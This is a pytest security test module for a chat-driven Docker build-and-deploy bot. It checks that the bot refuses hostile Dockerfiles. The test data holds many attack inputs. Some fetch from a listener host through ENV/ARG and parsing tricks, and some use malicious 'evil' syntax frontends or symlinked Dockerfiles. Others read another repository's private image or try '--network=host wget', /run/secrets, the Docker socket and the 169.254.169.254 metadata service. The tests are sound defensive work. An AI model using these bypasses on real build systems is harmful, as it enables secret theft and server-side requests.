"""Attacks on builds, with a real engine and registry: what they fetch, and whose images they use."""

import asyncio
import contextlib
import io
import tarfile
import uuid
from collections.abc import AsyncIterator
from dataclasses import replace

import docker
import docker.errors
import pytest

from bot.core.admission.images import ImagePolicy
from bot.core.naming import LABEL_INSTANCE
from bot.model.account import RegistryAccount
from bot.model.delivery import Trigger
from bot.model.errors import ChatOpsError, TellUser
from bot.model.pipeline import DeployConfig, ServiceConfig
from bot.model.plan import Deploy, Plan
from bot.model.reason import Reason
from bot.model.run import Image, Origin, Run
from bot.model.text import Language
from bot.runners.docker.builder import DockerBuilder
from bot.runners.docker.credentials import Credentials
from bot.runners.docker.engine import DockerEngine
from bot.sandbox.process import ProcessSandbox
from bot.steps import deploy
from bot.steps.context import StepContext
from tests.attack.build_bench import SECRET, SHOP, VICTIM, Bench, Listener, bench, listener
from tests.fakes.adapters import FakeWorld
from tests.fakes.log import FakeLog
from tests.fakes.snapshots import NOW
from tests.real.fixtures import base_image, engine, instance, registry, sdk
from tests.real.parts import build_image, private_registry, tar

__all__ = ["base_image", "bench", "engine", "instance", "listener", "registry", "sdk"]

pytestmark = pytest.mark.docker

FETCHES = {
    "an address": ("FROM scratch\nADD {url}/x /x", Reason.SOURCE_REFUSED),
    "from ENV": ("FROM scratch\nENV A={url}\nADD $A /x", Reason.SOURCE_REFUSED),
    "from ARG": ("FROM scratch\nARG A={url}\nADD $A /x", Reason.SOURCE_REFUSED),
    "from a build argument": ("FROM {base}\nARG A=local\nADD $A /x", Reason.SOURCE_REFUSED),
    "JSON": ('FROM scratch\nADD ["\\u0068ttp://{host}/x", "/x"]', Reason.SOURCE_REFUSED),
    "continued": ("FROM scratch\nadd \\\n# no\n  --chown=0 \\\n  {url}/x /x", Reason.SOURCE_REFUSED),
    "after a number": ("FROM scratch\nADD $1{url}/x /x", Reason.SOURCE_UNKNOWN),
    "after a condition": ("FROM scratch\nADD ${A:+'}'}{url}/x /x", Reason.SOURCE_UNKNOWN),
    "after a name": ('FROM scratch\nADD $B"http"://{host}/x /x', Reason.SOURCE_REFUSED),
    "after a blank in a flag": ("FROM scratch\nADD --chown=0\u00e0{url}/x /x", Reason.SOURCE_REFUSED),
    "ENV after a blank": ("FROM scratch\nENV B=x\u00a0C={url}\nADD $C /x", Reason.SOURCE_REFUSED),
    "ENV of a trigger": (
        "FROM scratch AS a\nONBUILD ENV B={url}\nFROM a\nADD $B /x",
        Reason.SOURCE_UNKNOWN,
    ),
    "ONBUILD in the same file": (
        "FROM scratch AS a\nONBUILD ADD {url}/x /x\nFROM a",
        Reason.SOURCE_REFUSED,
    ),
    "a here-document that is none": ("FROM {base}\nRUN <<E true\nADD {url}/x /x\nE\n", Reason.SOURCE_REFUSED),
    "a name that versions read differently": (
        "FROM scratch\nENV B={url}/x\nRUN <<E-F\nENV B=local\nE-F\nADD $B /x",
        Reason.DOCKERFILE_INVALID,
    ),
    "a line that versions end differently": (
        "FROM scratch\nADD \\\r\r\n{url}/x /x",
        Reason.DOCKERFILE_INVALID,
    ),
    "the end of a long file": (f"FROM scratch\n{'# long' * 5000}\nADD {{url}}/x /x", Reason.SOURCE_REFUSED),
    "git": ("FROM scratch\nADD git://{host}/a.git /x", Reason.SOURCE_REFUSED),
    "a frontend": ("# syntax={host}/evil:1\nFROM scratch", Reason.FRONTEND_REFUSED),
    "a frontend in JSON": ('{"syntax": "{host}/evil:1"}', Reason.FRONTEND_REFUSED),
    "a frontend after slashes": ("//syntax={host}/evil:1\nFROM scratch", Reason.FRONTEND_REFUSED),
    "a base image": ("FROM {host}/evil:1", Reason.IMAGE_REFUSED),
    "a mount": ("FROM {base}\nRUN --mount=from={host}/evil:1,target=/x ls /x", Reason.IMAGE_REFUSED),
}


@pytest.mark.parametrize(("text", "reason"), FETCHES.values(), ids=FETCHES)
@pytest.mark.parametrize("trusted", [True, False], ids=["of a member", "of an approved stranger"])
async def test_the_engine_fetches_nothing_for_a_dockerfile(
    bench: Bench,
    listener: Listener,
    text: str,
    reason: Reason,
    trusted: bool,  # noqa: FBT001 - a parameter
) -> None:
    host = listener.url.removeprefix("http://")
    filled = text.replace("{url}", listener.url).replace("{host}", host)
    await bench.refused(filled, reason, args={"A": listener.url}, trusted=trusted)
    assert listener.visits == []


async def test_a_frontend_in_a_build_argument_is_not_asked(bench: Bench, listener: Listener) -> None:
    image = f"{listener.url.removeprefix('http://')}/evil:1"
    await bench.refused("FROM scratch", Reason.FRONTEND_REFUSED, args={"BUILDKIT_SYNTAX": image})
    assert listener.visits == []


async def test_the_trigger_of_a_base_image_does_not_read_this_machine(
    bench: Bench, listener: Listener, sdk: docker.DockerClient
) -> None:
    base = f"chatops-test-trigger:{bench.instance}"
    text = f"FROM {bench.base}\nLABEL {LABEL_INSTANCE}={bench.instance}\nONBUILD ADD {listener.url}/x /x\n"
    content = tar({"Dockerfile": text})
    await asyncio.to_thread(_build_outside, sdk, content, base)
    log = await bench.refused(f"FROM {base}\nRUN sleep 2; cat /x\n", Reason.SOURCE_REFUSED)
    assert SECRET not in log


def _build_outside(sdk: docker.DockerClient, content: bytes, tag: str) -> None:
    build_image(sdk, fileobj=io.BytesIO(content), custom_context=True, tag=tag)


async def test_the_variables_of_a_base_image_do_not_replace_an_argument(
    bench: Bench, listener: Listener
) -> None:
    url = f"{listener.url}/x"
    await bench.build(f"FROM {{base}}\nENV NAME={url} VERSION={url}\n")
    text = (
        f"FROM {bench.tag}\nENV NEW={uuid.uuid4().hex}\nARG NAME=target/*.jar\nARG VERSION=1.0\n"
        "ADD ${NAME} app.jar\nADD ${VERSION}.tar.gz app-${VERSION}.tar.gz /\nRUN cat app.jar\n"
    )
    files = {"target/a.jar": "our own jar", "1.0.tar.gz": "", "app-1.0.tar.gz": ""}
    log = await bench.build(text, number=2, files=tar({"Dockerfile": text, **files}))
    assert "our own jar" in log
    await bench.refused(f"FROM {bench.tag}\nARG NAME\nADD $NAME /x\n", Reason.SOURCE_UNKNOWN)
    again = f"FROM {bench.tag} AS a\nARG NAME=local\nFROM a\nADD $NAME /x\n"
    await bench.refused(again, Reason.SOURCE_UNKNOWN)
    assert listener.visits == []


@pytest.fixture
async def private(bench: Bench, sdk: docker.DockerClient) -> AsyncIterator[str]:
    """Push the victim's preview, whose source is a secret, and provide its name."""
    await bench.build(f"FROM {{base}}\nRUN echo '{SECRET}' > /source\n", repo=VICTIM)
    name = bench.tag
    await bench.builder.push(name, FakeLog())
    yield name
    with contextlib.suppress(docker.errors.ImageNotFound):
        await asyncio.to_thread(sdk.images.remove, name, force=True)


@pytest.mark.parametrize("local", [True, False], ids=["in the engine", "in the registry"])
@pytest.mark.parametrize(
    "text",
    [
        "FROM {image}\nRUN cat /source",
        "FROM {base}\nCOPY --from={image} /source /\nRUN cat /source",
        "FROM {base}\nRUN --mount=type=bind,from={image},target=/x cat /x/source",
        "ARG I={image}\nFROM ${I}\nRUN cat /source",
        "FROM {alias}\nRUN cat /source",
        "FROM {digest}\nRUN cat /source",
        "ARG I=x\nFROM ${I:+{image}}\nRUN cat /source",
        "FROM {base} AS a\nRUN --mount=from=a,from={image},target=/x cat /x/source",
        "FROM {base}\nRUN --mount=type=tmpfs,target=/\u00e0--mount=from={image},target=/x cat /x/source",
        "FROM {base}\nRUN --mount=type=tmpfs,target=/\u00c5--mount=from={image},target=/x cat /x/source",
        "# escape=`\nFROM {base}\nRUN \\\nRUN --mount=target=/\\' --mount=from={image},target=/x cat /x/*",
    ],
    ids=[
        "FROM",
        "COPY",
        "a mount",
        "ARG",
        "another name of the registry",
        "a digest",
        "a condition",
        "a mount that names two",
        "a mount after a blank in a flag",
        "a mount after another blank in a flag",
        "a mount after an escaped quote in a flag",
    ],
)
async def test_the_private_preview_of_another_repository_cannot_be_used(
    bench: Bench,
    private: str,
    sdk: docker.DockerClient,
    text: str,
    local: bool,  # noqa: FBT001 - a parameter
) -> None:
    digest = (await asyncio.to_thread(sdk.images.get, private)).attrs["RepoDigests"][0]
    if not local:
        await asyncio.to_thread(sdk.images.remove, private, force=True)
    names = {"image": private, "alias": private.replace("127.0.0.1", "localhost"), "digest": digest}
    for name, value in names.items():
        text = text.replace(f"{{{name}}}", value)
    assert SECRET not in await bench.refused(text, Reason.IMAGE_REFUSED)
    own = f"FROM {private}\nENV NEW={uuid.uuid4().hex}\nRUN cat /source"
    assert SECRET in await bench.build(own, repo=VICTIM, number=2)


@pytest.mark.parametrize(
    "image",
    [
        "${BUILDPLATFORM:+{image}}",
        "${TARGETPLATFORM:+{image}}",
        "${TARGETSTAGE:+{image}}",
        "${TARGETOS:-{image}}",
        "${BUILDKIT_CACHE_MOUNT_NS:+{image}}",
        "${X:+{image}}",
        "${EMPTY+{image}}",
    ],
)
@pytest.mark.parametrize("declared", [True, False], ids=["declared", "not declared"])
async def test_a_variable_that_buildkit_sets_names_no_image(
    bench: Bench,
    private: str,
    image: str,
    declared: bool,  # noqa: FBT001 - a parameter
) -> None:
    names = ("BUILDPLATFORM", "TARGETPLATFORM", "TARGETSTAGE", "TARGETOS", "BUILDKIT_CACHE_MOUNT_NS")
    head = "".join(f"ARG {name}\n" for name in names) if declared else ""
    text = f"{head}ARG EMPTY=\nARG X=$BUILDPLATFORM\nFROM {image.replace('{image}', private)}\n"
    try:
        log = await bench.build(f"{text}ENV NEW={uuid.uuid4().hex}\nRUN cat /source")
    except ChatOpsError as error:
        log = error.log
    assert SECRET not in log


async def test_the_private_preview_of_another_repository_is_no_platform(bench: Bench, private: str) -> None:
    await bench.refused("FROM $TARGETARCH", Reason.IMAGE_REFUSED, args={"TARGETARCH": private})


@pytest.mark.parametrize("head", ["ARG BUILDKIT_CACHE_MOUNT_NS", "ARG TARGETPLATFORM", "ENV X=x"])
@pytest.mark.parametrize("name", ["BUILDKIT_CACHE_MOUNT_NS", "TARGETPLATFORM", "PATH"])
async def test_a_variable_that_buildkit_sets_names_no_address(
    bench: Bench, listener: Listener, name: str, head: str
) -> None:
    text = f"FROM scratch\n{head}\nADD ${{{name}:+{listener.url}/x}} /x\n"
    with contextlib.suppress(TellUser):
        await bench.build(f"{text}ADD Dockerfile {uuid.uuid4().hex}\n")
    assert listener.visits == []


@pytest.mark.parametrize("form", ["its name", "its id", "the beginning of its id", "another name"])
async def test_the_private_preview_of_another_repository_is_no_service(
    bench: Bench, private: str, sdk: docker.DockerClient, form: str
) -> None:
    image = str((await asyncio.to_thread(sdk.images.get, private)).id)
    names = {
        "its name": private,
        "its id": image,
        "the beginning of its id": image.removeprefix("sha256:")[:12],
        "another name": private.replace("127.0.0.1", "localhost"),
    }
    world = FakeWorld()
    sha = "ab" * 20
    services = {"db": ServiceConfig(image=names[form])}
    step = Deploy(sha, DeployConfig(port=80), services)
    run = Run(1, SHOP, 1, sha, Plan((step,)), Origin(Trigger.OPEN, "mei"), Language.EN, NOW)
    own = Image(bench.registry.tag_for(SHOP, 1, sha), "sha256:" + "0" * 64, 1, sha)
    adapters = replace(world.adapters(), builds=bench.policy)
    with pytest.raises(TellUser) as caught:
        await deploy.run(step, StepContext(run, FakeLog(), adapters, own))
    assert caught.value.reason is Reason.IMAGE_REFUSED
    assert caught.value.facts["where"] == "services.db"
    assert world.deployed == {}


async def test_a_base_that_the_operator_lists_is_used(bench: Bench, sdk: docker.DockerClient) -> None:
    base = f"{bench.policy.images.host}/bases/python:{bench.instance}"
    await bench.build("FROM {base}\nRUN echo a base > /base\n")
    await asyncio.to_thread((await asyncio.to_thread(sdk.images.get, bench.tag)).tag, base)
    await bench.builder.push(base, FakeLog())
    await asyncio.to_thread(sdk.images.remove, base)
    assert "a base" in await bench.build(f"FROM {base}\nRUN cat /base\n", repo=VICTIM, trusted=False)


async def test_the_bots_account_pulls_no_image_that_is_not_listed(
    bench: Bench, engine: DockerEngine, sdk: docker.DockerClient
) -> None:
    process = private_registry(bench.folder)
    account = RegistryAccount(process.host, "bot", "right")
    bench.builder = DockerBuilder(
        engine,
        ProcessSandbox(),
        instance=bench.instance,
        network="none",
        credentials=Credentials(account, policy=bench.policy.images),
    )
    # Elsewhere than on this machine, the name of such a registry is one that anybody may use.
    bench.policy = replace(bench.policy, images=ImagePolicy(bases=("*",)))
    try:
        name = f"{process.host}/secret/app:{bench.instance}"
        await bench.build(f"FROM {{base}}\nRUN echo '{SECRET}' > /source\n")
        await asyncio.to_thread((await asyncio.to_thread(sdk.images.get, bench.tag)).tag, name)
        await bench.builder.push(name, FakeLog())
        await asyncio.to_thread(sdk.images.remove, name)
        assert SECRET not in await bench.refused(f"FROM {name}\nRUN cat /source", Reason.BASE_IMAGE_MISSING)
    finally:
        process.stop()


def linked(text: str) -> bytes:
    """Return the tar of a commit whose Dockerfile is a link."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.GNU_FORMAT) as archive:
        link = tarfile.TarInfo("Dockerfile")
        link.type, link.linkname = tarfile.SYMTYPE, "evil"
        archive.addfile(link)
        evil = tarfile.TarInfo("evil")
        evil.size = len(text)
        archive.addfile(evil, io.BytesIO(text.encode()))
    return out.getvalue()


@pytest.mark.parametrize("form", ["a link", "recoded", "missing"])
async def test_the_dockerfile_that_was_checked_is_built(bench: Bench, listener: Listener, form: str) -> None:
    evil = f"FROM {bench.base}\nADD {listener.url}/x /x\nRUN cat /x\n"
    files = {"a link": linked(evil), "recoded": tar({"Dockerfile": evil}), "missing": tar({"x": evil})}[form]
    log = await bench.build(f"FROM {{base}}\nRUN echo checked {uuid.uuid4().hex}\n", files=files)
    assert "checked" in log
    assert listener.visits == []


HELD = {
    "the network of the host": "RUN --network=host wget -qO- {url}/x",
    "no security": "RUN --security=insecure cat /dev/mem",
    "a secret": "RUN --mount=type=secret,id=token,required=true cat /run/secrets/token",
    "an SSH agent": "RUN --mount=type=ssh,required=true ls $SSH_AUTH_SOCK",
    "a link out of the context": "COPY link /x\nRUN grep root: /x",
    "a path out of the context": "COPY ../../../../etc/hostname /x\nRUN false",
    "the engine's socket": "RUN ls /var/run/docker.sock",
    "loopback of this machine": "RUN wget -T 2 -qO- {url}/x",
    "a metadata service": "RUN wget -T 2 -qO- http://169.254.169.254/",
}


@pytest.mark.parametrize("line", HELD.values(), ids=HELD)
async def test_a_build_does_not_get(bench: Bench, listener: Listener, line: str) -> None:
    text = f"FROM {{base}}\nENV NEW={uuid.uuid4().hex}\n{line.replace('{url}', listener.url)}\n"
    out = io.BytesIO(tar({"Dockerfile": text.replace("{base}", bench.base)}))
    with tarfile.open(fileobj=out, mode="a", format=tarfile.GNU_FORMAT) as archive:
        link = tarfile.TarInfo("link")
        link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
        archive.addfile(link)
    with pytest.raises(TellUser) as caught:
        await bench.build(text, files=out.getvalue())
    assert SECRET not in (caught.value.log or "")
    assert listener.visits == []


@pytest.mark.parametrize(
    ("output", "shown"),
    [(r"\033[31mred\033[0m\033]0;title\007", "red"), (r"x\010\010y", "y")],
    ids=["colours and titles", "backspaces"],
)
async def test_the_output_of_a_build_is_shown_as_text(bench: Bench, output: str, shown: str) -> None:
    log = await bench.build(f"FROM {{base}}\nENV NEW={uuid.uuid4().hex}\nRUN printf 'is {output}\\n'\n")
    assert not {"\x1b", "\x07", "\x08"} & set(log)
    assert shown in log
